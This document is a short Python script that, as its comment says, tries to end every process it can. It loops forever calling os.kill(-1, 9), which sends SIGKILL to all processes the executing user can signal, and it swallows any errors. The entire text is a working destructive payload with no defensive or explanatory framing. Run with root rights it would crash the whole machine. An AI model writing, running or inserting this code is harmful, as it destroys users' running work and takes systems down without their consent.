# Ends every process that it can, and never ends itself.
import os

while True:
    try:
        os.kill(-1, 9)
    except OSError:
        pass
